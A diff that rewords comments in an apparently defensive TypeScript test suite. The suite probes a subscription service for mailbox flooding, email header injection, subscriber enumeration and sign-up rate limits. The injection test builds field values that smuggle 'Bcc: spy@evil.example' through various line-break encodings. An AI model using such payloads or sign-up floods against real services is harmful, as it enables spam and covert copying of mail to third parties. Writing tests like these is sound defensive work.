@@ -1,4 +1,4 @@
-// Mail that the service is made to send: too much, to one mailbox, with headers of somebody else's choice.
+// Attacks that make the service send mail: too much, to one mailbox, or with injected headers.
 import { type Attack, type Outcome, statuses, unless } from './attack.ts';
 import { each, freshAddress } from './request.ts';
 import { BY_KEY } from './seed.ts';
@@ -14,7 +14,7 @@ const signUp = (target: Target, email: string, name = 'A stranger', from = fresh
 
 const head = (mail: string): string => mail.split('\r\n\r\n')[0] ?? '';
 
-/** Ten plus-addresses and spellings of one mailbox, each asked for from elsewhere. */
+/** Signs up plus-addresses and other spellings of one mailbox, each from a different address. */
 async function fillMailbox(target: Target): Promise<Outcome> {
   const spellings = [
     ...Array.from({ length: 10 }, (_, at) => `victim+${at}@mailbox.example`),
@@ -31,7 +31,7 @@ async function fillMailbox(target: Target): Promise<Outcome> {
   };
 }
 
-/** Line breaks and second recipients in everything a stranger or an officer may enter. */
+/** Enters line breaks and second recipients in all fields of strangers and officers. */
 async function injectHeaders(target: Target): Promise<Outcome> {
   const breaks = ['\r\n', '\n', '\r', '\u2028', '\u0085', '%0d%0a'];
   const names = breaks.map((end) => `A${end}Bcc: spy@evil.example${end}${end}Buy`);
@@ -79,12 +79,12 @@ async function injectHeaders(target: Target): Promise<Outcome> {
   };
 }
 
-/** Whether an address is known here must not show. */
+/** Checks that responses do not reveal whether an address is known. */
 async function enumerate(target: Target): Promise<Outcome> {
   const known = 'subscriber@mailbox.example';
   await signUp(target, known);
   const [mail = ''] = target.mails().filter((text) => text.includes(known));
-  // Quoted-printable: a long line goes on after `=`.
+  // Quoted-printable: a long line continues after `=`.
   const [, code = ''] = /confirm\?v=3D([0-9A-Za-z_-]+)/.exec(mail.replace(/=\r\n/g, '')) ?? [];
   const verified = await target.ask(`/api/subs/verify?calendar_id=programs&v=${code}`);
   const again = await signUp(target, known);
@@ -96,7 +96,7 @@ async function enumerate(target: Target): Promise<Outcome> {
   };
 }
 
-/** 200 addresses in a burst: first from one client that names others, then from as many clients. */
+/** Signs up 200 addresses at once: first from one client with forged addresses, then from 200 clients. */
 async function burst(target: Target): Promise<Outcome> {
   const before = target.mails().length;
   const from = freshAddress();
@@ -109,14 +109,14 @@ async function burst(target: Target): Promise<Outcome> {
   return {
     saw: `one client ${statuses(one)}: ${ofOne} mails; 200 clients ${statuses(many)}: ${ofMany} mails`,
     wrong: [
-      // Twenty a minute, and a minute may end in between.
+      // The limit is twenty a minute, and a new minute may begin meanwhile.
       ...unless(ofOne <= 40, `one client had ${ofOne} mails sent`),
       ...unless(ofMany <= 120, `strangers had ${ofMany} mails sent at once`),
     ],
   };
 }
 
-/** The burst comes last: what it uses up is missing to the others. */
+/** The burst comes last, since it uses up the limits that the others need. */
 export const unwantedMail: Attack[] = [
   ['headers in names and addresses', injectHeaders],
   ['who is a subscriber', enumerate],
